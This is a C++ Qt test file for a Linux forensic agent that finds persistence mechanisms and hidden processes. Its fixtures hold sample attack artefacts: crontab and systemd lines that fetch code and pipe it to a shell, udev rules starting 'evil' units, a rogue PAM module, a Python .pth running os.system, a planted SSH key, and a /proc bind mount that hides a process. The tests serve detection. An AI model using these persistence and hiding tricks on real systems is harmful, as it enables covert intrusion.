// SPDX-FileCopyrightText: 2026 Sonde contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "agent/formats/base/textdecoder.h"
#include "agent/system/hooks/accountparser.h"
#include "agent/system/hooks/gitconfig.h"
#include "agent/system/hooks/hookparser.h"
#include "agent/system/hooks/pamparser.h"
#include "agent/system/hooks/sshparser.h"
#include "agent/system/linux/cescapes.h"
#include "agent/system/linux/commandwords.h"
#include "agent/system/linux/keyfile.h"
#include "agent/system/network/socketparser.h"
#include "agent/system/processes/processes.h"
#include "agent/system/processes/procview.h"
#include "agent/system/startup/desktopentry.h"
#include "agent/system/startup/sessionparser.h"
#include "agent/system/tasks/cronparser.h"
#include "agent/system/tasks/installedcron.h"
#include "tests/agent/devicetree.h"
#include "tests/agent/formatprobe.h"

#include <QCryptographicHash>
#include <QProcess>
#include <QStandardPaths>
#include <QStringEncoder>
#include <QTest>
#include <QtEndian>
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>

using namespace Qt::StringLiterals;
using namespace Sonde;
using namespace Sonde::Agent;
using namespace Sonde::Agent::Linux;

namespace {

QByteArrayList commandsOf(const std::vector<Hook> &hooks)
{
    QByteArrayList commands;
    for (const Hook &hook : hooks)
        commands += hook.name + ' ' + hook.command;
    return commands;
}

QByteArray encoded(const QString &text, QStringConverter::Encoding encoding, bool hasMark)
{
    QStringEncoder encoder(encoding, hasMark ? QStringConverter::Flag::WriteBom : QStringConverter::Flag::Default);
    return encoder(text);
}

/// A text in every encoding it may come in, whatever it says of itself.
void addEncodings(const QString &text)
{
    using enum QStringConverter::Encoding;
    QTest::newRow("plain") << encoded(text, Utf8, false);
    QTest::newRow("UTF-8 with a mark") << encoded(text, Utf8, true);
    QTest::newRow("UTF-16LE") << encoded(text, Utf16LE, false);
    QTest::newRow("UTF-16LE with a mark") << encoded(text, Utf16LE, true);
    QTest::newRow("UTF-16BE") << encoded(text, Utf16BE, false);
    QTest::newRow("UTF-16BE with a mark") << encoded(text, Utf16BE, true);
}

QString plist(const QString &inside)
{
    return u"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict>"_s + inside
        + u"</dict></plist>"_s;
}

QByteArray registry(const QByteArray &lines)
{
    return "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n" + lines;
}

/// "name|type|data" of every value, key after key.
QStringList valuesOf(const QByteArray &export5)
{
    QStringList values;
    const QCborArray keys = inside(detailsOf(export5), u"keys"_s).toArray();
    for (const QCborValue &key : keys) {
        for (const QCborValue &value : key.toMap()[u"values"_s].toArray()) {
            const QCborMap map = value.toMap();
            values += map[u"name"_s].toString() + u'|' + map[u"type"_s].toString() + u'|'
                + (map[u"deleted"_s].toBool() ? u"deleted"_s : map[u"data"_s].toString());
        }
    }
    return values;
}

// ---- shell links

QByteArray little16(qsizetype number)
{
    QByteArray bytes(2, '\0');
    qToLittleEndian(quint16(number), bytes.data());
    return bytes;
}

QByteArray item(const QByteArray &content)
{
    return little16(content.size() + 2) + content;
}

/// A file entry with a short name, and behind it the block 0xbeef0004 of Windows 10 with the long one.
QByteArray fileItem(char type, const QByteArray &shortName, const QString &longName)
{
    QByteArray start = QByteArray(1, type) + QByteArray(11, '\0') + shortName + '\0';
    if (start.size() % 2)
        start += '\0';
    QByteArray block = little16(9) + QByteArray::fromHex("0400efbe") + QByteArray(8, '\0') + little16(0x2e)
        + QByteArray(18, '\0') + little16(0) + QByteArray(8, '\0');
    QStringEncoder wide(QStringEncoder::Utf16LE);
    block += QByteArray(wide(longName)) + QByteArray(2, '\0') + little16(start.size() + 2);
    block = little16(block.size() + 2) + block;
    return item(start + block);
}

QByteArray linkHeader(quint32 flags)
{
    QByteArray header = QByteArray::fromHex("4c0000000114020000000000c000000000000046") + QByteArray(56, '\0');
    qToLittleEndian(flags, header.data() + 20);
    header[60] = 1;
    return header;
}

QByteArray wideText(const QString &text)
{
    QStringEncoder wide(QStringEncoder::Utf16LE);
    return little16(text.size()) + QByteArray(wide(text));
}

/// Runs `inside` in a mount namespace of a process of its own; how that went.
int inMountNamespace(const std::function<int()> &inside)
{
    const pid_t child = ::fork();
    if (child == 0) {
        const bool isApart =
            ::unshare(CLONE_NEWNS) == 0 && ::mount("none", "/", nullptr, MS_REC | MS_PRIVATE, nullptr) == 0;
        ::_exit(isApart ? inside() : 77);
    }
    int status = 0;
    ::waitpid(child, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

} // namespace

/// Small inputs on which tools of this trade were wrong: each comes from a public report about one of them, whose name stands beside it.
class FieldCasesTest final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    // ---- processes that hide

    /// UAC 256, 272
    void namesProcessesThatAreCovered()
    {
        const QByteArray mounts = "24 1 0:22 / /proc rw - proc proc rw\n"
                                  "90 24 0:50 / /proc/77 rw - tmpfs tmpfs rw\n"
                                  "91 24 8:1 /etc/passwd /proc/12/cmdline rw - ext4 /dev/sda1 rw\n"
                                  "92 24 0:50 / /proc/77 rw - tmpfs tmpfs rw\n"
                                  "93 24 0:51 / /proc/sys/fs/binfmt_misc rw - binfmt_misc x rw\n";
        QCOMPARE(coveredProcesses(mounts), (std::vector<qint64>{12, 77}));
        QVERIFY(coveredProcesses("rubbish").empty());
    }

    void looksBehindWhatCoversAProcess()
    {
        QProcess sleeper;
        sleeper.start(u"sleep"_s, {u"600"_s});
        QVERIFY(sleeper.waitForStarted());
        const QTemporaryDir empty;
        const QByteArray folder = "/proc/" + QByteArray::number(sleeper.processId());
        const QByteArray cover = QFile::encodeName(empty.path());
        const int how = inMountNamespace([&] {
            if (::mount(cover.constData(), folder.constData(), nullptr, MS_BIND, nullptr) != 0)
                return 77;
            const ProcessTable table;
            if (!std::ranges::contains(table.covered(), sleeper.processId()))
                return 1;
            const auto facts = table.facts(sleeper.processId());
            const bool isSeen = facts ? facts->name == "sleep" : facts.error().code == ErrorCode::ProcessHidden;
            return isSeen ? 0 : 2;
        });
        sleeper.kill();
        sleeper.waitForFinished();
        if (how == 77)
            QSKIP("it takes the right to mount");
        QCOMPARE(how, 0);
    }

    /// atomic-red-team 2945
    void takesNoOtherProcessesFactsForOne()
    {
        const DeviceTree tree;
        QFile stat(QStringLiteral(TEST_DATA_DIR "/proc/4242/stat"));
        QFile status(QStringLiteral(TEST_DATA_DIR "/proc/4242/status"));
        QVERIFY(stat.open(QFile::ReadOnly) && status.open(QFile::ReadOnly));
        tree.write(u"/proc/77/stat"_s, stat.readAll()); // of 4242
        tree.write(u"/proc/77/status"_s, status.readAll());
        const ProcessTable table(tree.root() + "/proc");
        const auto facts = table.facts(77);
        QVERIFY(!facts);
        QCOMPARE(facts.error().code, ErrorCode::ProcessHidden);
    }

    /// osquery 1607
    void aNameThatEndsLikeThatOfADeletedFileIsAName()
    {
        const QTemporaryDir folder;
        const QString copy = folder.filePath(u"x (deleted)"_s);
        QVERIFY(QFile::copy(QStandardPaths::findExecutable(u"sleep"_s), copy));
        QProcess sleeper;
        sleeper.start(copy, {u"600"_s});
        QVERIFY(sleeper.waitForStarted());
        const ProcessTable table;
        const auto named = table.facts(sleeper.processId());
        QVERIFY(named);
        QCOMPARE(named->image, QFile::encodeName(copy));
        QVERIFY(!named->imageDeleted);
        QVERIFY(QFile::remove(copy));
        const auto deleted = table.facts(sleeper.processId());
        QVERIFY(deleted && deleted->imageDeleted);
        QCOMPARE(deleted->image, QFile::encodeName(copy));
        sleeper.kill();
        sleeper.waitForFinished();
    }

    // ---- sockets

    /// osquery 7282
    void readsPacketSockets()
    {
        const auto sockets = parsePacketTable("sk               RefCnt Type Proto  Iface R Rmem   User   Inode\n"
                                              "ffff8881 3      3    0003   0     1 0      0      424242\n"
                                              "ffff8882 3      2    0800   2     1 0      1000   424243\n");
        QCOMPARE(sockets.size(), 2U);
        QCOMPARE(sockets.at(0).transport, Transport::PacketRaw);
        QCOMPARE(sockets.at(0).inode, 424242U);
        QCOMPARE(sockets.at(0).details.value(u"ethernet_protocol"_s), u"0x0003 (all)"_s);
        QCOMPARE(sockets.at(1).transport, Transport::PacketDatagram);
        QCOMPARE(sockets.at(1).details.value(u"interface_index"_s), u"2"_s);
        const auto netlink = parseNetlinkTable("sk Eth Pid Groups Rmem Wmem Dump Locks Drops Inode\n"
                                               "0000 15 812 00000001 0 0 0 2 0 9001\n");
        QCOMPARE(netlink.size(), 1U);
        QCOMPARE(netlink.front().details.value(u"netlink_protocol"_s), u"15 (kobject_uevent)"_s);
        const auto raw = parseNetTable("sl local rem st tx tr retr uid to inode\n"
                                       " 1: 00000000:0001 00000000:0000 07 0:0 0:0 0 0 0 77 2 0 0\n",
            Transport::Raw);
        QCOMPARE(raw.size(), 1U);
        QCOMPARE(raw.front().localPort, 0U); // it is no port
        QCOMPARE(raw.front().details.value(u"ip_protocol"_s), u"1"_s);
        QVERIFY(parseProtocols("protocol size sockets\nPACKET 1472 1 -1\n").contains("PACKET"));
    }

    void seesWhoListensToEverything()
    {
        const int handle = ::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
        if (handle < 0)
            QSKIP("it takes the right to open such a socket");
        CommandProbe probe;
        QVERIFY(!probe.run(u"connections"_s).failure);
        const bool isThere = std::ranges::any_of(probe.rows, [](const QJsonObject &row) {
            return row[u"pid"].toInteger() == QCoreApplication::applicationPid()
                && row[u"protocol"].toString() == "packet-raw"_L1;
        });
        ::close(handle);
        QVERIFY(isThere);
    }

    /// One of a family that the kernel has no list of.
    void seesSocketsThatNoListHas()
    {
        const int handle = ::socket(AF_ALG, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
        if (handle < 0)
            QSKIP("this kernel has no AF_ALG");
        CommandProbe probe;
        QVERIFY(!probe.run(u"connections"_s).failure);
        ::close(handle);
        const bool isThere = std::ranges::any_of(probe.rows, [](const QJsonObject &row) {
            return row[u"pid"].toInteger() == QCoreApplication::applicationPid()
                && row[u"protocol"].toString() == "alg"_L1;
        });
        QVERIFY(isThere);
    }

    // ---- udev: systemd 16607, 17399

    void readsEveryUdevSyntax_data()
    {
        QTest::addColumn<QByteArray>("rule");
        QTest::addColumn<QByteArrayList>("hooks");
        const auto row = [](const char *name, const char *rule, const QByteArrayList &hooks) {
            QTest::newRow(name) << QByteArray(rule).replace('\'', '"') << hooks; // easier to read
        };
        row("no commas", "ACTION=='add' SUBSYSTEM=='block' RUN+='/tmp/h/nocomma.sh'", {"RUN /tmp/h/nocomma.sh"});
        row("nothing between", "RUN+='/a'RUN+='/b'", {"RUN /a", "RUN /b"});
        row("C escapes", "RUN+=e'/tmp/h/e.sh\\x20arg'", {"RUN /tmp/h/e.sh arg"});
        row("a quote", "RUN+='/a \\'b\\''", {"RUN /a \"b\""});
        row("blanks around", "RUN  +=  '/a'", {"RUN /a"});
        row("goes on", "ACTION=='add', \\\n# a comment between\n  RUN+='/a'", {"RUN /a"});
        row("commas only", ",,RUN+='/a',,", {"RUN /a"});
        row("case", "KERNEL==i'SD*' RUN+='/a'", {"RUN /a"});
        row("assigned for good", "RUN:='/a'", {"RUN /a"});
        row("a unit", "TAG+='systemd', ENV{SYSTEMD_WANTS}+='evil.service'", {"ENV{SYSTEMD_WANTS} evil.service"});
        row("a user's unit", "ENV{SYSTEMD_USER_WANTS}='a.service'", {"ENV{SYSTEMD_USER_WANTS} a.service"});
        row("a unit that is asked for", "ENV{SYSTEMD_WANTS}=='a.service'", {});
        row("a module", "RUN{builtin}+='kmod load evil'", {"RUN{builtin} kmod load evil"});
        row("another builtin", "RUN{builtin}+='uaccess'", {});
        row("programs", R"(PROGRAM=="/p %k", RESULT=="x", IMPORT{program}="/i")",
            {"PROGRAM /p %k", "IMPORT{program} /i"});
        row("the kernel's helper", "SYSCTL{kernel/core_pattern}='|/x %p'", {"SYSCTL{kernel.core_pattern} /x %p"});
        row("a comment", "#RUN+='/a'", {});
        row("never closed", "RUN+='/a', RUN+='/b", {"RUN /a"});
    }
    void readsEveryUdevSyntax()
    {
        QFETCH(QByteArray, rule);
        QTEST(commandsOf(parseUdevRules(rule)), "hooks");
    }

    // ---- cron

    /// cronie 195, systemd-cron 146
    void cronsInputIsWhatRuns()
    {
        const auto lines = parseCrontab("*/5 * * * * root /bin/sh%curl http://127.0.0.1:9/x | sh%exit\n"
                                        "0 0 * * * root echo 10\\% of\n",
            CronUsers::Named);
        QCOMPARE(lines.size(), 2U);
        QCOMPARE(lines.at(0).command, "/bin/sh");
        QCOMPARE(lines.at(0).input, "curl http://127.0.0.1:9/x | sh\nexit");
        QCOMPARE(lines.at(1).command, "echo 10% of");
        QVERIFY(lines.at(1).input.isEmpty());
    }

    /// systemd-cron 143, dcron 20
    void cronsVariablesDecideWhatRuns()
    {
        const auto lines = parseCrontab("1 1 * * * root /before\nSHELL=/bin/bash\n BASH_ENV = \"/tmp/e.sh\"\n"
                                        "1 1 * * * root /after --x=y\nSHELL=/bin/sh\n2 2 * * * root /last\n",
            CronUsers::Named);
        QCOMPARE(lines.size(), 3U);
        QVERIFY(lines.at(0).environment.empty());
        QCOMPARE(
            lines.at(1).environment, (std::vector<CronVariable>{{"SHELL", "/bin/bash"}, {"BASH_ENV", "/tmp/e.sh"}}));
        QCOMPARE(lines.at(1).command, "/after --x=y");
        QCOMPARE(lines.at(2).environment.front(), (CronVariable{"SHELL", "/bin/sh"}));
        // However many others there are.
        QByteArray many;
        for (int i = 0; i < 500; ++i)
            many += "V" + QByteArray::number(i) + "=1\n";
        const auto hidden = parseCrontab(QByteArray(many + "BASH_ENV=/tmp/e.sh\n* * * * * /x\n"), CronUsers::Owner);
        QVERIFY(std::ranges::contains(hidden.front().environment, CronVariable{"BASH_ENV", "/tmp/e.sh"}));

        const DeviceTree tree;
        tree.write(u"/etc/cron.d/x"_s, "SHELL=/bin/bash\nBASH_ENV=/tmp/e.sh\n*/5 * * * * root /bin/sh%evil\n");
        tree.write(u"/tmp/e.sh"_s, "evil\n");
        CommandProbe tasks;
        runOn(tree, tasks, u"scheduledtasks"_s);
        QCOMPARE(tasks.rows.at(0)[u"environment"][1].toString(), u"BASH_ENV=/tmp/e.sh"_s);
        QCOMPARE(tasks.rows.at(0)[u"task"][u"actions"][u"exec"][0][u"input"].toString(), u"evil"_s);
        CommandProbe persistence;
        runOn(tree, persistence, u"persistence"_s);
        const QJsonObject row = rowWhere(persistence, u"method"_s, u"scheduled_tasks"_s);
        QCOMPARE(row[u"command"].toString(), u"/bin/sh%evil"_s);
        QCOMPARE(row[u"details"][u"environment"][1].toString(), u"BASH_ENV=/tmp/e.sh"_s);
        QCOMPARE(row[u"attack"].toString(), u"T1053.003"_s);
    }

    /// chef 6269, systemd-cron 177
    void theInstalledCronDecides()
    {
        QCOMPARE(cronKind("… CRON_TZ … /etc/cron.d … crontabs"), InstalledCron::Kind::Cronie);
        QCOMPARE(cronKind("… /etc/cron.d … crontabs …"), InstalledCron::Kind::Debian);
        QCOMPARE(cronKind("BusyBox"), InstalledCron::Kind::Unknown);
        const InstalledCron debian(InstalledCron::Kind::Debian);
        const InstalledCron cronie(InstalledCron::Kind::Cronie, InstalledCron::RunParts::RedHat);
        QVERIFY(!debian.readsTable("not.run") && cronie.readsTable("not.run"));
        QVERIFY(!cronie.readsTable("x.rpmsave") && !cronie.readsTable("x~") && !cronie.readsTable(".x"));
        QVERIFY(!debian.runsPart("x.sh") && cronie.runsPart("x.sh"));
        QVERIFY(!debian.knowsTimeZones() && cronie.knowsTimeZones());

        const DeviceTree tree;
        tree.write(u"/usr/sbin/cron"_s, "… /etc/cron.d … crontabs …");
        tree.write(u"/etc/cron.d/zone"_s, "CRON_TZ=Asia/Tokyo\n30 6 * * * root /a\n");
        CommandProbe probe;
        runOn(tree, probe, u"scheduledtasks"_s);
        QCOMPARE(probe.rows.at(0)[u"time_zone"].toString(), u"Asia/Tokyo"_s); // shown, whoever counts in it
    }

    // ---- sshd_config: rear 2421

    void readsSshdsArguments()
    {
        const auto settings =
            parseSshdConfig("Include \"/etc/ssh/a b/*.conf\" extra/*.conf # c\n"
                            "AuthorizedKeysFile=.ssh/k '/etc/keys/%u' # c\nForceCommand /bin/x \"a b\" # kept\n");
        QCOMPARE(settings.at(0).keyword, "include");
        QCOMPARE(settings.at(0).arguments, (QByteArrayList{"/etc/ssh/a b/*.conf", "extra/*.conf"}));
        QCOMPARE(settings.at(1).arguments, (QByteArrayList{".ssh/k", "/etc/keys/%u"}));
        QCOMPARE(settings.at(2).value, "/bin/x \"a b\" # kept"); // a shell gets it as it is
    }

    void followsWhatSshdIncludes()
    {
        const DeviceTree tree;
        tree.write(u"/etc/passwd"_s, "root:x:0:0:root:/root:/bin/bash\n");
        tree.folder(u"/root"_s);
        tree.write(u"/etc/ssh/sshd_config"_s, "Include /etc/ssh/extra/*.conf more.conf\nForceCommand /late\n");
        tree.write(u"/etc/ssh/extra/a.conf"_s, "ForceCommand /evil\nAuthorizedKeysFile /var/k/%u\n");
        tree.write(u"/etc/ssh/more.conf"_s, "Match User eve\n  ForceCommand /eve\n");
        tree.write(u"/var/k/root"_s, "ssh-rsa QUJD planted\n");
        CommandProbe probe;
        runOn(tree, probe, u"persistence"_s);
        const QJsonObject evil = rowWhere(probe, u"command"_s, u"/evil"_s);
        QCOMPARE(evil[u"path"].toString(), u"/etc/ssh/extra/a.conf"_s);
        QCOMPARE(evil[u"is_enabled"].toBool(), true);
        QCOMPARE(rowWhere(probe, u"command"_s, u"/eve"_s)[u"details"][u"match"].toString(), u"User eve"_s);
        // The first of a keyword counts.
        QCOMPARE(rowWhere(probe, u"command"_s, u"/late"_s)[u"is_enabled"].toBool(true), false);
        QCOMPARE(rowWhere(probe, u"name"_s, u"planted"_s)[u"path"].toString(), u"/var/k/root"_s);
    }

    // ---- PAM: PANIX 3, 18

    void readsPamRules()
    {
        QCOMPARE(parsePamLine("auth sufficient /tmp/pam_evil.so nullok", PamFile::OfService),
            (std::vector<PamRule>{{"auth", "sufficient", "/tmp/pam_evil.so", {"nullok"}}}));
        QCOMPARE(parsePamLine("-session [success=1 default=ignore] pam_x.so a [b c] # d", PamFile::OfService),
            (std::vector<PamRule>{{"session", "[success=1 default=ignore]", "pam_x.so", {"a", "[b c]"}}}));
        QCOMPARE(parsePamLine("sshd auth required pam_unix.so", PamFile::OfAll),
            (std::vector<PamRule>{{"auth", "required", "pam_unix.so", {}}}));
        QVERIFY(parsePamLine("@include common-auth", PamFile::OfService).empty());
        QVERIFY(parsePamLine("auth include system-auth", PamFile::OfService).empty());
    }

    void aForeignModuleIsARow()
    {
        const DeviceTree tree;
        tree.write(u"/etc/pam.d/x"_s, "auth sufficient /tmp/pam_evil.so\nauth required pam_unix.so\n");
        tree.write(u"/tmp/pam_evil.so"_s, QByteArray("\177ELF\0", 5));
        tree.write(u"/usr/lib/x86_64-linux-gnu/security/pam_unix.so"_s, "module");
        CommandProbe probe;
        runOn(tree, probe, u"persistence"_s);
        const auto rows = std::ranges::count_if(
            probe.rows, [](const QJsonObject &row) { return row[u"method"].toString() == "pam"_L1; });
        QCOMPARE(rows, 1);
        const QJsonObject row = rowWhere(probe, u"method"_s, u"pam"_s);
        QVERIFY(row[u"command"].toString().contains(u"/tmp/pam_evil.so"));
        QCOMPARE(row[u"starts"][0][u"path"].toString(), u"/tmp/pam_evil.so"_s);
        QCOMPARE(row[u"starts"][0][u"sha256"].toString().size(), 64);
    }

    // ---- Python: PANIX 32

    void readsWhatPythonsSiteRuns()
    {
        const DeviceTree tree;
        tree.write(u"/etc/passwd"_s, "alice:x:1000:1000::/home/alice:/bin/bash\n");
        const QString site = u"/home/alice/.local/lib/python3.11/site-packages/"_s;
        tree.write(site + u"x.pth"_s, "import os; os.system('id')\n/some/folder\n");
        tree.write(site + u"usercustomize.py"_s, "print(1)\n");
        tree.write(u"/usr/lib/python3/dist-packages/sitecustomize.py"_s, "print(2)\n");
        CommandProbe probe;
        runOn(tree, probe, u"persistence"_s);
        const QJsonObject path = rowWhere(probe, u"name"_s, u"x.pth"_s);
        QCOMPARE(path[u"method"].toString(), u"language_hooks"_s);
        QCOMPARE(path[u"command"].toString(), u"import os; os.system('id')"_s);
        QCOMPARE(path[u"details"][u"user"].toString(), u"alice"_s);
        QVERIFY(!rowWhere(probe, u"name"_s, u"usercustomize.py"_s).isEmpty());
        QVERIFY(!rowWhere(probe, u"name"_s, u"sitecustomize.py"_s).isEmpty());
    }

    // ---- window managers: nylas-mail 1251

    void readsWhatWindowManagersStart()
    {
        QCOMPARE(parseSessionFile("@lxpanel --profile LXDE\n# c\n/tmp/x\n", SessionFileKind::LxSession),
            (QByteArrayList{"lxpanel --profile LXDE", "/tmp/x"}));
        QCOMPARE(parseSessionFile(
                     "exec --no-startup-id /tmp/a\n exec_always \"/tmp/b c\"\nexecute /no\nbindsym $mod exec /no\n",
                     SessionFileKind::I3),
            (QByteArrayList{"/tmp/a", "/tmp/b c"}));
        QCOMPARE(parseSessionFile("exec-once = /tmp/a\nexec=/tmp/b\nbind = exec, /no\n", SessionFileKind::Hyprland),
            (QByteArrayList{"/tmp/a", "/tmp/b"}));
        QCOMPARE(parseSessionFile("<JWM><StartupCommand>/tmp/a</StartupCommand></JWM>", SessionFileKind::Jwm),
            (QByteArrayList{"/tmp/a"}));
        QCOMPARE(parseSessionFile(
                     "[core]\nx=/no\n[autostart]\nautostart_wf_shell=true\na=/tmp/a\n", SessionFileKind::KeyValue),
            (QByteArrayList{"/tmp/a"}));

        const DeviceTree tree;
        tree.write(u"/etc/passwd"_s, "alice:x:1000:1000::/home/alice:/bin/bash\n");
        const QStringList files{u"/home/alice/.config/lxsession/LXDE/autostart"_s,
            u"/home/alice/.config/openbox/autostart"_s, u"/home/alice/.config/i3/config"_s,
            u"/home/alice/.config/sway/config"_s, u"/home/alice/.fluxbox/startup"_s, u"/etc/xdg/openbox/autostart"_s};
        for (const QString &file : files)
            tree.write(file, "exec /tmp/evil\n");
        for (const QString &verb : {u"startupfolders"_s, u"persistence"_s}) {
            CommandProbe probe;
            runOn(tree, probe, verb);
            const QSet<QString> paths = column(probe, verb == u"persistence"_s ? u"path"_s : u"filePath"_s);
            for (const QString &file : files)
                QVERIFY2(paths.contains(file), qPrintable(verb + u' ' + file));
        }
    }

    // ---- units

    /// systemd 2823, 2883
    void aMarkBeforeASectionIsNone()
    {
        QCOMPARE(KeyFile::parse("\xef\xbb\xbf[Service]\nExecStart=/x\n", KeyFile::Lines::Continued)
                     .value("Service", "ExecStart"),
            "/x");
        QCOMPARE(parseDesktopEntry("\xef\xbb\xbf[Desktop Entry]\nExec=/x\n")->exec, "/x");
        const DeviceTree tree;
        tree.write(u"/etc/systemd/system/x.service"_s, "\xef\xbb\xbf[Service]\nExecStart=/opt/x\n");
        CommandProbe probe;
        runOn(tree, probe, u"services"_s);
        QCOMPARE(probe.rows.at(0)[u"command_line"].toString(), u"/opt/x"_s);
    }

    /// systemd.syntax(7), systemd.service(5)
    void readsTheCommandLinesOfUnits_data()
    {
        QTest::addColumn<QByteArray>("line");
        QTest::addColumn<QByteArray>("command");
        const auto row = [](const char *line, const char *command) {
            QTest::newRow(line) << QByteArray(line) << QByteArray(command);
        };
        row("/bin/x -a b", "/bin/x -a b");
        row("-@/bin/x y", "/bin/x y");
        row(R"(/bin/sh -c "\x63url x | sh")", "/bin/sh -c 'curl x | sh'");
        row(R"(/bin/x a\x20b \u00e9 \101)", "/bin/x 'a b' \xc3\xa9 A");
        row(R"(/bin/x a\sb)", "/bin/x 'a b'");
        row(R"(/bin/x \d)", R"(/bin/x '\d')");
        row("/bin/true ; /tmp/evil a", "/bin/true ; /tmp/evil a");
        row("/bin/x a \\; b", "/bin/x a ';' b");
        row("/bin/x ${HOME} $USER", "/bin/x ${HOME} $USER");
        row("'/bin/a b' ''", "'/bin/a b' ''");
    }
    void readsTheCommandLinesOfUnits()
    {
        QFETCH(QByteArray, line);
        QTEST(unitCommandLine(line), "command");
    }

    /// systemd 12007
    void timersStartWhenTheClockIsSet()
    {
        const DeviceTree tree;
        tree.write(u"/etc/systemd/system/x.timer"_s, "[Timer]\nOnClockChange=yes\nOnTimezoneChange=1\n");
        tree.write(u"/etc/systemd/system/y.timer"_s, "[Timer]\nOnClockChange=no\nOnCalendar=daily\n");
        CommandProbe probe;
        runOn(tree, probe, u"scheduledtasks"_s);
        const QJsonArray triggers = rowWhere(probe, u"id"_s, u"x.timer"_s)[u"task"][u"triggers"].toArray();
        QCOMPARE(triggers.size(), 2);
        QCOMPARE(triggers.at(0)[u"type"].toString(), u"event"_s);
        QCOMPARE(triggers.at(0)[u"schedule"].toString(), u"OnClockChange=yes"_s);
        QCOMPARE(rowWhere(probe, u"id"_s, u"y.timer"_s)[u"task"][u"triggers"].toArray().size(), 1);
    }

    // ---- tasks and services of other systems

    /// UAC 228, SUSE/linux-security-sensor 83: systemd-run --user
    void aUsersTransientTimerIsThere()
    {
        const DeviceTree tree;
        tree.write(u"/etc/passwd"_s, "alice:x:1000:1000::/home/alice:/bin/bash\n");
        tree.write(
            u"/run/user/1000/systemd/transient/run-u1.timer"_s, "[Timer]\nOnActiveSec=30\nRemainAfterElapse=no\n");
        tree.write(u"/run/user/1000/systemd/transient/run-u1.service"_s, "[Service]\nExecStart=/tmp/evil\n");
        CommandProbe probe;
        runOn(tree, probe, u"scheduledtasks"_s);
        QCOMPARE(probe.rows.size(), 1U);
        QCOMPARE(probe.rows.at(0)[u"task"][u"principals"][u"principal"][u"userId"].toString(), u"alice"_s);
        QCOMPARE(probe.rows.at(0)[u"task"][u"actions"][u"exec"][0][u"command"].toString(), u"/tmp/evil"_s);
        QCOMPARE(probe.rows.at(0)[u"is_enabled"].toBool(), true);
        CommandProbe persistence;
        runOn(tree, persistence, u"persistence"_s);
        QCOMPARE(rowWhere(persistence, u"method"_s, u"user_services"_s)[u"command"].toString(), u"/tmp/evil"_s);
    }

    void readsAlpinesAndOpenWrtsTasks()
    {
        const DeviceTree tree;
        tree.script(u"/etc/periodic/15min/x"_s);
        tree.write(u"/etc/crontabs/root"_s, "*/5 * * * * /tmp/evil\n");
        tree.folder(u"/var/spool/cron"_s);
        tree.link(u"/var/spool/cron/crontabs"_s, "../../../etc/crontabs");
        CommandProbe probe;
        runOn(tree, probe, u"scheduledtasks"_s);
        QCOMPARE(probe.rows.size(), 2U); // the table once
        QCOMPARE(
            rowWhere(probe, u"kind"_s, u"run-parts"_s)[u"task"][u"triggers"][0][u"schedule"].toString(), u"@15min"_s);
        QCOMPARE(rowWhere(probe, u"kind"_s, u"cron"_s)[u"task"][u"principals"][u"principal"][u"userId"].toString(),
            u"root"_s);
    }

    /// Source: atd.c, which passes over what at(1) has not yet marked executable.
    void anUnfinishedJobOfAtDoesNotRun()
    {
        const DeviceTree tree;
        tree.write(u"/var/spool/cron/atjobs/a0000301c9c3f1"_s, "#!/bin/sh\n/x\n");
        tree.script(u"/var/spool/atd/a0000401c9c3f1"_s, "#!/bin/sh\n/y\n");
        CommandProbe probe;
        runOn(tree, probe, u"scheduledtasks"_s);
        QCOMPARE(rowWhere(probe, u"id"_s, u"at:3"_s)[u"is_enabled"].toBool(true), false);
        QCOMPARE(rowWhere(probe, u"id"_s, u"at:4"_s)[u"is_enabled"].toBool(), true);
    }

    /// openwrt 4235, trueos/sysadm 27, devstructure/blueprint 108, salt 33260
    void readsServicesOfOtherInits()
    {
        const DeviceTree tree;
        tree.script(u"/etc/init.d/firewall"_s, "#!/bin/sh /etc/rc.common\nSTART=19\n");
        tree.link(u"/etc/rc.d/S19firewall"_s, "../init.d/firewall");
        tree.script(u"/etc/init.d/umount"_s, "#!/bin/sh /etc/rc.common\nSTOP=99\n");
        tree.link(u"/etc/rc.d/K99umount"_s, "../init.d/umount");
        tree.script(
            u"/etc/init.d/off"_s, "#!/bin/sh\n# chkconfig: - 85 15\n# description: A web server \\\n#  of some kind\n");
        tree.script(u"/etc/init.d/cron"_s, "#!/sbin/openrc-run\nname=\"Cron daemon\"\ncommand=/usr/sbin/crond\n");
        tree.link(u"/etc/runlevels/shutdown/cron"_s, "/etc/init.d/cron");
        tree.folder(u"/run/openrc/started"_s);
        tree.link(u"/run/openrc/failed/cron"_s, "/etc/init.d/cron");
        CommandProbe probe;
        runOn(tree, probe, u"services"_s);
        const auto cell = [&probe](const QString &name, const QString &column) {
            return rowWhere(probe, u"service_name"_s, name)[column].toString();
        };
        QCOMPARE(cell(u"firewall"_s, u"start_type"_s), u"enabled"_s);
        QCOMPARE(cell(u"umount"_s, u"start_type"_s), u"enabled"_s);
        QCOMPARE(cell(u"off"_s, u"start_type"_s), u"disabled"_s);
        QCOMPARE(cell(u"off"_s, u"display_name"_s), u"A web server"_s);
        QCOMPARE(cell(u"cron"_s, u"display_name"_s), u"Cron daemon"_s);
        QCOMPARE(cell(u"cron"_s, u"start_type"_s), u"enabled"_s);
        QCOMPARE(cell(u"cron"_s, u"current_state"_s), u"failed"_s);
    }

    // ---- encodings: plaso 3535, smartmontools-win 10

    void readsPropertyListsInAnyEncoding_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        addEncodings(plist(u"<key>Label</key><string>caf\u00e9</string><key>RunAtLoad</key><true/>"_s));
        QTest::newRow("declared as UTF-16")
            << plist(u"<key>Label</key><string>caf\u00e9</string><key>RunAtLoad</key><true/>"_s)
                   .replace(u"UTF-8"_s, u"UTF-16"_s)
                   .toUtf8();
        QTest::newRow("Latin-1") << plist(u"<key>Label</key><string>caf\u00e9</string><key>RunAtLoad</key><true/>"_s)
                                        .replace(u"UTF-8"_s, u"ISO-8859-1"_s)
                                        .toLatin1();
